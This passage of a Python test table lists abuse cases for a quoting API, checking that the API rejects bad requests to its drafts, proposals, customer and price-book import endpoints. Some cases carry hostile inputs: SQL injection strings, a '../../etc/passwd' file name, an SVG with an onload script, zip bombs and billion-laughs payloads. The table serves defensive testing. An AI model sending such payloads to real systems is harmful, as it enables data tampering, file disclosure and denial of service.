    Case("draft: If-Match of 8 KB", "PUT", "/v1/drafts/%00", {**JSON_AS, "If-Match": "9" * 8192}, draft({}), INVALID),
    Case("draft: delete a NUL id", "DELETE", "/v1/drafts/%00", ESTIMATOR, None, NOT_FOUND),
    Case("draft: quote from a NUL id", "POST", "/v1/drafts/%00/quote", ESTIMATOR, None, NOT_FOUND),
    Case("draft: a template into a NUL id", "POST", "/v1/drafts/%00/panels", JSON_AS, js({"template_id": "x"}), NOT_FOUND),
    Case("draft: page 10^20", "GET", "/v1/drafts?page=100000000000000000000", ESTIMATOR, None, INVALID),
    Case("draft: size 101", "GET", "/v1/drafts?size=101", ESTIMATOR, None, INVALID),
    Case("draft: a viewer creates one", "POST", "/v1/drafts", {**VIEWER, "Content-Type": "application/json"}, draft({}), FORBIDDEN),
    Case("draft: PUT the collection", "PUT", "/v1/drafts", JSON_AS, draft({}), NOT_ALLOWED),
    Case("draft: copy a NUL quote id", "POST", "/v1/estimate/%00/copy", ESTIMATOR, None, NOT_FOUND),
    Case("draft: copy a 10,000-character quote id", "POST", "/v1/estimate/" + "7" * 10_000 + "/copy", ESTIMATOR, None, NOT_FOUND),
    Case("draft: copy a quote", "POST", "/v1/estimate/{quote}/copy", ESTIMATOR, None, CREATED),
    Case("template: a name with an RTL override", "POST", "/v1/templates", JSON_AS, js({"name": RTL, "panel": {}}), INVALID),
    Case("template: a name of blanks", "POST", "/v1/templates", JSON_AS, js({"name": "   ", "panel": {}}), INVALID),
    Case("template: a 10 KB name", "POST", "/v1/templates", JSON_AS, js({"name": "n" * 10_000, "panel": {}}), INVALID),
    Case("template: the panel is a list", "POST", "/v1/templates", JSON_AS, js({"name": "x", "panel": []}), INVALID),
    Case("template: markup as the name", "POST", "/v1/templates", JSON_AS, js({"name": MARKUP, "panel": DOMAIN_S8["panels"][0]}), CREATED_OR_TAKEN),
    Case("template: NUL as the template id", "GET", "/v1/templates/%00", ESTIMATOR, None, NOT_FOUND),
    Case("template: rename a NUL id", "PATCH", "/v1/templates/%00", JSON_AS, js({"name": "x"}), NOT_FOUND),
    Case("query: suggestions for a made-up field", "GET", "/v1/suggestions?field=password", VIEWER, None, INVALID),
    Case("query: suggestions with NUL in q", "GET", "/v1/suggestions?field=customer&q=%00", VIEWER, None, OK),
    Case("query: suggestions with LIKE wildcards", "GET", "/v1/suggestions?field=project&q=%25_%25", VIEWER, None, OK),
    Case("query: suggestions with a 10 KB q", "GET", "/v1/suggestions?field=customer&q=" + "q" * 10_000, VIEWER, None, INVALID),
    Case("query: suggestions limit 10^20", "GET", "/v1/suggestions?field=customer&limit=100000000000000000000", VIEWER, None, INVALID),

    # --- 빠른 입력 (POST /v1/requests/parse) ------------------------------------------------------------------
    Case("shorthand: 4,001 characters", "POST", "/v1/requests/parse", JSON_AS, js({"text": "L" * 4001}), TOO_LARGE),
    Case("shorthand: 900 KB of text", "POST", "/v1/requests/parse", JSON_AS, js({"text": "LS " * 300_000}), TOO_LARGE),
    Case("shorthand: text is a list", "POST", "/v1/requests/parse", JSON_AS, js({"text": ["LS", "메인"]}), INVALID),
    Case("shorthand: an extra field", "POST", "/v1/requests/parse", JSON_AS, js({"text": "LS 메인 4P 75A", "customer": "x"}), INVALID),
    Case("shorthand: markup as a word", "POST", "/v1/requests/parse", JSON_AS, js({"text": f"LS 메인 4P 75A {MARKUP}"}), INVALID),
    Case("shorthand: an RTL override", "POST", "/v1/requests/parse", JSON_AS, js({"text": f"LS {RTL} 메인 4P 75A"}), INVALID),
    Case("shorthand: NUL and a lone surrogate", "POST", "/v1/requests/parse", JSON_AS, js({"text": "LS\u0000메인 \ud800 4P"}), MALFORMED_OR_INVALID),
    Case("shorthand: 99999 poles and amps", "POST", "/v1/requests/parse", JSON_AS, js({"text": "LS 메인 999P 99999A ELB 2P 20A 99999개"}), INVALID),
    Case("shorthand: 2,000 separators", "POST", "/v1/requests/parse", JSON_AS, js({"text": "/" * 2000}), INVALID),
    Case("shorthand: a viewer parses", "POST", "/v1/requests/parse", {**VIEWER, "Content-Type": "application/json"}, js({"text": "LS 메인 4P 75A"}), FORBIDDEN),

    # --- alternatives: the preview's body limit and refusals, nothing stored; a saved quote's by id --------
    Case("alternatives: not JSON at all", "POST", "/v1/estimate/alternatives", JSON_AS, b"customer=x&brand=LS", MALFORMED),
    Case("alternatives: nested 100,000 deep", "POST", "/v1/estimate/alternatives", JSON_AS, nested(100_000), MALFORMED),
    Case("alternatives: an array", "POST", "/v1/estimate/alternatives", JSON_AS, b"[1, 2, 3]", INVALID),
    Case("alternatives: NaN thickness", "POST", "/v1/estimate/alternatives", JSON_AS, estimate(panels__0__enclosure__thickness_mm=float("nan")), INVALID),
    Case("alternatives: an unknown model", "POST", "/v1/estimate/alternatives", JSON_AS, estimate(panels__0__main__model="'; DROP TABLE x; --"), INVALID),
    Case("alternatives: 1,001 branch lines", "POST", "/v1/estimate/alternatives", JSON_AS, estimate(panels__0__branches=[{"poles": 2, "trip_at": 20, "qty": 1}] * 1001), INVALID),
    Case("alternatives: a total beyond 10^15 won", "POST", "/v1/estimate/alternatives", JSON_AS, estimate(panels__0__extra_lines=[{"name": "x", "qty": 100_000, "unit_price": 10**9}] * 20), INVALID),
    Case("alternatives: a 10 MB customer name", "POST", "/v1/estimate/alternatives", JSON_AS, ten_megabyte_name, TOO_LARGE),
    Case("alternatives: 2 MB chunked, no Content-Length", "POST", "/v1/estimate/alternatives", JSON_AS, Chunked(lambda: b'{"customer": "' + b"x" * (2 * MB) + b'"}'), TOO_LARGE),
    Case("alternatives: NUL in the customer name", "POST", "/v1/estimate/alternatives", JSON_AS, estimate(customer__name="동양\u0000기전"), OK_OR_INVALID),
    Case("alternatives: SQL in the customer name", "POST", "/v1/estimate/alternatives", JSON_AS, estimate(customer__name=SQL), OK),
    Case("alternatives: no key", "POST", "/v1/estimate/alternatives", {"Content-Type": "application/json"}, js(DOMAIN_S8), UNAUTHORIZED),
    Case("alternatives: a viewer asks by body", "POST", "/v1/estimate/alternatives", {**VIEWER, "Content-Type": "application/json"}, js(DOMAIN_S8), FORBIDDEN),
    Case("alternatives: a saved quote's, as a viewer", "GET", "/v1/estimate/{quote}/alternatives", VIEWER, None, OK),
    Case("alternatives: NUL id", "GET", "/v1/estimate/%00/alternatives", VIEWER, None, NOT_FOUND),
    Case("alternatives: SQL as the id", "GET", "/v1/estimate/'%20OR%201=1%20--/alternatives", VIEWER, None, NOT_FOUND),

    # --- customers (거래처) and the supplier profile (공급자) ------------------------------------------------------
    Case("customer: a wrong check digit", "POST", "/v1/customers", JSON_AS, js({"name": "x", "business_number": "123-45-67890"}), INVALID),
    Case("customer: a business number of letters", "POST", "/v1/customers", JSON_AS, js({"name": "x", "business_number": "ABC-DE-FGHIJ"}), INVALID),
    Case("customer: SQL as the name", "POST", "/v1/customers", JSON_AS, js({"name": SQL}), CREATED_OR_TAKEN),
    Case("customer: an RTL override in the name", "POST", "/v1/customers", JSON_AS, js({"name": RTL}), INVALID),
    Case("customer: a 10 KB name", "POST", "/v1/customers", JSON_AS, js({"name": "n" * 10_000}), INVALID),
    Case("customer: discount 1e400", "POST", "/v1/customers", JSON_AS, b'{"name": "x", "discount_percent": 1e400}', INVALID),
    Case("customer: validity of a trillion days", "POST", "/v1/customers", JSON_AS, js({"name": "x", "validity_days": 10**12}), INVALID),
    Case("customer: an extra field", "POST", "/v1/customers", JSON_AS, js({"name": "x", "owner": "admin"}), INVALID),
    Case("customer: NUL as the id", "GET", "/v1/customers/%00", VIEWER, None, NOT_FOUND),
    Case("customer: a 10 KB id", "GET", "/v1/customers/" + "c" * 10_000, VIEWER, None, NOT_FOUND),
    Case("query: customers with LIKE wildcards", "GET", "/v1/customers?q=%25_%25", VIEWER, None, OK),
    Case("query: customers size 10^20", "GET", "/v1/customers?size=100000000000000000000", VIEWER, None, INVALID),
    Case("customer: a viewer creates", "POST", "/v1/customers", {**VIEWER, "Content-Type": "application/json"}, js({"name": "x"}), FORBIDDEN),
    Case("customers: import a zip bomb", "POST", "/v1/customers/import", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("list.xlsx", sheet_zip_bomb), INVALID),
    Case("customers: import billion laughs", "POST", "/v1/customers/import", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("list.xlsx", sheet_billion_laughs), INVALID),
    Case("customers: import 11 MB", "POST", "/v1/customers/import", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("list.csv", eleven_megabytes, "text/csv"), TOO_LARGE),
    Case("customers: import 100,000 rows", "POST", "/v1/customers/import", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("list.xlsx", customer_list_of_100000_rows), TOO_LARGE),
    Case("customers: import 2,000 zip members", "POST", "/v1/customers/import", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("list.xlsx", workbook_of_2000_members), INVALID),
    Case("customers: import a legacy .xls", "POST", "/v1/customers/import", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("list.xls", legacy_workbook, "application/vnd.ms-excel"), INVALID),
    Case("profile: an estimator edits", "PUT", "/v1/profile", JSON_AS, js({"name": "x", "business_number": "1234567891"}), FORBIDDEN),
    Case("profile: no business number", "PUT", "/v1/profile", JSON_ADMIN, js({"name": "x"}), INVALID),
    Case("seal: an SVG with script", "PUT", "/v1/profile/seal", {**ADMIN, "Content-Type": MULTIPART}, upload("seal.png", lambda: f"<svg onload='alert(1)'>{MARKUP}</svg>".encode(), "image/png"), NOT_FOUND_OR_INVALID),
    Case("seal: a PNG signature over garbage", "PUT", "/v1/profile/seal", {**ADMIN, "Content-Type": MULTIPART}, upload("seal.png", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 5000, "image/png"), NOT_FOUND_OR_INVALID),
    Case("seal: 6 MB", "PUT", "/v1/profile/seal", {**ADMIN, "Content-Type": MULTIPART}, upload("seal.png", six_megabytes, "image/png"), TOO_LARGE),

    # --- the proposal: options checked one by one, the body limit, nothing stored ---------------------------
    Case("proposal: not JSON at all", "POST", "/v1/estimate/proposal", JSON_AS, b"customer=x&brand=LS", MALFORMED),
    Case("proposal: nested 100,000 deep", "POST", "/v1/estimate/proposal", JSON_AS, nested(100_000), MALFORMED),
    Case("proposal: an array", "POST", "/v1/estimate/proposal", JSON_AS, b"[1, 2, 3]", INVALID),
    Case("proposal: no options", "POST", "/v1/estimate/proposal", JSON_AS, js({"request": DOMAIN_S8}), INVALID),
    Case("proposal: options an object", "POST", "/v1/estimate/proposal", JSON_AS, proposal({"brand": "LS"}), INVALID),
    Case("proposal: one option", "POST", "/v1/estimate/proposal", JSON_AS, proposal([{"brand": "LS"}]), INVALID),
    Case("proposal: four options", "POST", "/v1/estimate/proposal", JSON_AS, proposal([{}] * 4), INVALID),
    Case("proposal: an option a string", "POST", "/v1/estimate/proposal", JSON_AS, proposal(["brand=LS", {}]), INVALID),
    Case("proposal: an unknown brand", "POST", "/v1/estimate/proposal", JSON_AS, proposal([{"brand": "ABB"}, {}]), INVALID),
    Case("proposal: a 10 kB option key", "POST", "/v1/estimate/proposal", JSON_AS, proposal([{"x" * 10_000: "LS"}, {}]), INVALID),
    Case("proposal: a brand that is a list", "POST", "/v1/estimate/proposal", JSON_AS, proposal([{"brand": ["LS"]}, {}]), INVALID),
    Case("proposal: thickness NaN", "POST", "/v1/estimate/proposal", JSON_AS, proposal([{"material": "STEEL", "thickness_mm": float("nan")}, {}]), INVALID),
    Case("proposal: thickness true", "POST", "/v1/estimate/proposal", JSON_AS, proposal([{"material": "STEEL", "thickness_mm": True}, {}]), INVALID),
    Case("proposal: request NaN thickness", "POST", "/v1/estimate/proposal", JSON_AS, proposal(panels__0__enclosure__thickness_mm=float("nan")), INVALID),
    Case("proposal: request an array", "POST", "/v1/estimate/proposal", JSON_AS, js({"request": [1], "options": [{}, {}]}), INVALID),
    Case("proposal: a 10 MB customer name", "POST", "/v1/estimate/proposal", JSON_AS, ten_megabyte_name, TOO_LARGE),
    Case("proposal: 2 MB chunked, no Content-Length", "POST", "/v1/estimate/proposal", JSON_AS, Chunked(lambda: b'{"request": {"customer": "' + b"x" * (2 * MB) + b'"}}'), TOO_LARGE),
    Case("proposal: SQL in the customer name", "POST", "/v1/estimate/proposal", JSON_AS, proposal(customer__name=SQL), OK),
    Case("proposal: no key", "POST", "/v1/estimate/proposal", {"Content-Type": "application/json"}, proposal(), UNAUTHORIZED),
    Case("proposal: a viewer asks", "POST", "/v1/estimate/proposal", {**VIEWER, "Content-Type": "application/json"}, proposal(), FORBIDDEN),
    Case("proposal: GET", "GET", "/v1/estimate/proposal", ESTIMATOR, None, NOT_FOUND),

    # --- the BOM difference of two revisions: ids in the path and the query ----------------------------
    Case("diff: against itself", "GET", "/v1/estimate/{quote}/diff?against={quote}", VIEWER, None, OK),
    Case("diff: NUL id", "GET", "/v1/estimate/%00/diff?against={quote}", VIEWER, None, NOT_FOUND),
    Case("diff: NUL against", "GET", "/v1/estimate/{quote}/diff?against=%00", VIEWER, None, NOT_FOUND),
    Case("diff: SQL as against", "GET", "/v1/estimate/{quote}/diff?against='%20OR%201=1%20--", VIEWER, None, NOT_FOUND),
    Case("diff: a 10,000-character against", "GET", "/v1/estimate/{quote}/diff?against=" + "x" * 10_000, VIEWER, None, INVALID),
    Case("diff: no against", "GET", "/v1/estimate/{quote}/diff", VIEWER, None, INVALID),
    Case("revisions: NUL id", "GET", "/v1/estimate/%00/revisions", VIEWER, None, NOT_FOUND),
    Case("revisions: SQL as the id", "GET", "/v1/estimate/'%20OR%201=1%20--/revisions", VIEWER, None, NOT_FOUND),
    Case("diff: no key", "GET", "/v1/estimate/{quote}/diff?against={quote}", {}, None, UNAUTHORIZED),
    # --- uploads: request sheets -------------------------------------------------------------------------
    Case("sheet: not a workbook", "POST", "/v1/validate", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("request.xlsx", lambda: b"not a workbook at all"), INVALID),
    Case("sheet: zip bomb (60 MB inflated)", "POST", "/v1/validate", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("request.xlsx", sheet_zip_bomb), INVALID),
    Case("sheet: 100,000 rows", "POST", "/v1/validate", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("request.xlsx", sheet_of_100000_rows), OK_OR_INVALID),
    Case("sheet: billion laughs", "POST", "/v1/validate", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("request.xlsx", sheet_billion_laughs), INVALID),
    Case("sheet: 6 MB, over the sheet limit", "POST", "/v1/validate", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("request.xlsx", six_megabytes), TOO_LARGE),
    Case("sheet: 11 MB, over the upload limit", "POST", "/v1/validate", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("request.xlsx", eleven_megabytes), TOO_LARGE),
    Case("sheet: JSON instead of a file", "POST", "/v1/validate", JSON_AS, js({"file": "request.xlsx"}), INVALID),
    Case("sheet: multipart without its end", "POST", "/v1/validate", {**ESTIMATOR, "Content-Type": MULTIPART}, f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"".encode(), MALFORMED_OR_INVALID),
    # --- uploads: price books ----------------------------------------------------------------------------
    Case("book: not a workbook", "POST", "/v1/catalog/import", {**ADMIN, "Content-Type": MULTIPART}, upload("book.xlsx", lambda: b"not a workbook at all"), INVALID),
    Case("book: zip bomb (200 MB inflated)", "POST", "/v1/catalog/import", {**ADMIN, "Content-Type": MULTIPART}, upload("book.zip", price_book_zip_bomb, "application/zip"), INVALID),
    Case("book: 100,000 rows", "POST", "/v1/catalog/import", {**ADMIN, "Content-Type": MULTIPART}, upload("book.zip", price_book_of_100000_rows, "application/zip"), INVALID),
    Case("book: 11 MB, over the upload limit", "POST", "/v1/catalog/import", {**ADMIN, "Content-Type": MULTIPART}, upload("book.zip", eleven_megabytes, "application/zip"), TOO_LARGE),
    Case("book: named ../../etc/passwd", "POST", "/v1/catalog/import", {**ADMIN, "Content-Type": MULTIPART}, upload(PATH, shipped_price_book), INVALID),
    Case("book: named with an RTL override and .exe", "POST", "/v1/catalog/import", {**ADMIN, "Content-Type": MULTIPART}, upload(RTL, shipped_price_book), INVALID),
    Case("book: a 5,000-character file name", "POST", "/v1/catalog/import", {**ADMIN, "Content-Type": MULTIPART}, upload("b" * 5000 + ".xlsx", shipped_price_book), MALFORMED_OR_INVALID),
    Case("book: a label with an RTL override", "POST", "/v1/catalog/import", {**ADMIN, "Content-Type": MULTIPART}, upload("book.xlsx", shipped_price_book, label=RTL), INVALID),
    Case("book: a cell with an RTL override", "POST", "/v1/catalog/import", {**ADMIN, "Content-Type": MULTIPART}, upload("book.xlsx", price_book_with_an_rtl_override), INVALID),
    Case("book: a 101-character label", "POST", "/v1/catalog/import", {**ADMIN, "Content-Type": MULTIPART}, upload("book.xlsx", shipped_price_book, label="L" * 101), INVALID),
    Case("book: activate=maybe", "POST", "/v1/catalog/import", {**ADMIN, "Content-Type": MULTIPART}, upload("book.xlsx", shipped_price_book, activate="maybe"), INVALID),
    Case("book: an estimator imports", "POST", "/v1/catalog/import", {**ESTIMATOR, "Content-Type": MULTIPART}, upload("book.xlsx", shipped_price_book), FORBIDDEN),
]  # fmt: skip

assert len({case.name for case in CASES}) == len(CASES), "case names must be unique"


def category(case: Case) -> str:
    """The table's section a case belongs to: the word before the first colon of its name."""
    return case.name.split(":", 1)[0]
